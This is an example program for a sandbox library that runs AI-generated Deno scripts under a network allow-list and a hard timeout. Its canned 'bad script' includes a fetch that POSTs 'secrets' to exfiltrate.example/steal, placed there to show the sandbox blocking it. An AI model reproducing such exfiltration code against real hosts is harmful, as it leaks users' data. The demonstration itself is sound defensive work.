// The program from "npm install && pray" (dev.to, Jo Franchetti), ported
// from @deno/sandbox to cordon: ask a model for a script, run it in a
// sandbox that may reach one host only, kill it after 10 seconds.
//
//   node examples/ai-agent/main.mjs        (after `npm run build`)
//
// With ANTHROPIC_API_KEY set, Claude writes the script and it may reach
// api.coingecko.com. Without a key, a canned "generated" script runs against
// a tiny local stand-in for CoinGecko, and also tries what a bad script
// would: a host it was not granted, and running forever.
//
// The one line that differs from the Deno version: the import.
import http from "node:http";
import { Sandbox } from "cordon";

const MODEL = process.env.ANTHROPIC_MODEL ?? "claude-opus-4-6";
const PROMPT = "Write a Deno (TypeScript) script that fetches the current Bitcoin price in USD from the CoinGecko API and prints it.";

// Steps 1–4: get code from a model (or the canned stand-in).
const live = Boolean(process.env.ANTHROPIC_API_KEY);
let api;
let allowNet;
let resolve;
let generatedCode;
let host = "api.coingecko.com";
if (live) {
  generatedCode = extractCode(await askClaude(PROMPT));
  allowNet = [host];
} else {
  api = await startFakeCoinGecko();
  host = "api.coingecko.test";
  allowNet = [`${host}:${api.port}`];
  // Pin the name to the local stand-in (as curl --resolve): the only way in for it.
  resolve = { [host]: "127.0.0.1" };
  generatedCode = cannedScript(`http://${host}:${api.port}`);
  console.log("(no ANTHROPIC_API_KEY: running a canned \"generated\" script against a local stand-in for CoinGecko)\n");
}

// Step 5: a sandbox. Unlike Deno Deploy, a cordon sandbox has no network
// unless allowNet grants it; Deno's own --allow-net (step 7) narrows it
// further. (In TypeScript, or Node ≥ 24, write `await using sandbox = ...`
// as the original does; Node 20's JavaScript lacks that syntax, so the
// sandbox is disposed of in `finally`.)
const sandbox = await Sandbox.create({ allowNet, resolve });
try {

  // Step 6: write the generated code into the sandbox's own filesystem.
  await sandbox.fs.writeTextFile("/tmp/generated.ts", generatedCode);

  // Step 7: run it with Deno, on PATH in every sandbox, as in the original.
  const child = await sandbox.spawn("deno", { args: ["run", `--allow-net=${host}`, "/tmp/generated.ts"], stdout: "piped", stderr: "piped" });

  // Step 8: a hard timeout.
  const timeout = setTimeout(() => {
    console.log("(10 seconds passed: killing the generated script)");
    void child.kill();
  }, 10_000);

  // Step 9: wait and print.
  try {
    const output = await child.output();
    console.log("Output:\n", output.stdoutText || "No output");
    if (!output.status.success) {
      console.error(`Ended with ${output.status.signal ?? `exit code ${output.status.code}`}.`);
      if (output.stderrText) console.error("Error:\n", output.stderrText);
    }
  } finally {
    clearTimeout(timeout);
  }
} finally {
  await sandbox[Symbol.asyncDispose]();
  api?.server.close();
}

/** The Messages API with plain fetch (no SDK dependency). */
async function askClaude(prompt) {
  const response = await fetch("https://api.anthropic.com/v1/messages", {
    method: "POST",
    headers: {
      "content-type": "application/json",
      "x-api-key": process.env.ANTHROPIC_API_KEY,
      "anthropic-version": "2023-06-01",
    },
    body: JSON.stringify({ model: MODEL, max_tokens: 1024, messages: [{ role: "user", content: prompt }] }),
  });
  if (!response.ok) throw new Error(`The Messages API answered ${response.status}: ${await response.text()}`);
  const body = await response.json();
  const first = body.content?.[0];
  if (first?.type !== "text") throw new Error(`Unexpected content type: ${first?.type}`);
  return first.text;
}

function extractCode(text) {
  const match = text.match(/```(?:typescript|ts|javascript|js|mjs)?\n([\s\S]*?)```/);
  return match ? match[1] : text;
}

/** What a model might write, plus what a bad one might try. */
function cannedScript(base) {
  return `
const response = await fetch("${base}/api/v3/simple/price?ids=bitcoin&vs_currencies=usd");
const data: { bitcoin: { usd: number } } = await response.json();
console.log("Bitcoin: $" + data.bitcoin.usd);

try {
  await fetch("https://exfiltrate.example/steal", { method: "POST", body: "secrets" });
  console.log("reached exfiltrate.example (this should not happen)");
} catch (error) {
  console.log("exfiltrate.example: blocked (" + (error as Error).name + ")");
}

console.log("now looping forever...");
setInterval(() => {}, 1000);
`;
}

async function startFakeCoinGecko() {
  const server = http.createServer((request, response) => {
    response.setHeader("content-type", "application/json");
    response.end(JSON.stringify({ bitcoin: { usd: 97123.45 } }));
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { server, port: server.address().port };
}
